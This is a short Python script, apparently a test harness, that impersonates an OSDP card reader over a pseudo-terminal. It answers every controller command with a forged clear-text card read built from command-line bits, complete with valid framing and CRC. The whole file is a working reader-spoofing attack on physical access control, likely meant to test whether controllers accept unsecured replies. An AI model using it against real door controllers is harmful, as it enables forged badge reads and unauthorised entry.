"""Somebody who cut the wire of an OSDP reader and speaks in its place: every command is answered with a card in clear.

usage: osdp-attacker.py LINK ADDRESS BITS
"""
import os
import sys
import tty


def crc(octets):
    value = 0x1D0F
    for octet in octets:
        value ^= octet << 8
        for _ in range(8):
            value = (value << 1 ^ 0x1021 if value & 0x8000 else value << 1) & 0xFFFF
    return value.to_bytes(2, "little")


link, address, bits = sys.argv[1], int(sys.argv[2]), sys.argv[3]
size = (len(bits) + 7) // 8
card = bytes([0, 1]) + len(bits).to_bytes(2, "little") + int(bits.ljust(size * 8, "0"), 2).to_bytes(size, "big")
master, slave = os.openpty()
tty.setraw(slave)
if os.path.islink(link):
    os.unlink(link)
os.symlink(os.ttyname(slave), link)
print("attacker ready", flush=True)
heard = b""
while True:
    heard += os.read(master, 4096)
    while len(heard) >= 8 and 0x53 in heard:
        heard = heard[heard.index(0x53):]
        length = int.from_bytes(heard[2:4], "little") if len(heard) >= 4 else 0
        if length < 7 or len(heard) < length:
            break
        control = heard[4]
        heard = heard[length:]
        head = bytes([0x53, address | 0x80]) + (6 + len(card) + 2).to_bytes(2, "little")
        frame = head + bytes([control & 0x03 | 0x04, 0x50]) + card
        os.write(master, b"\xff" + frame + crc(frame))
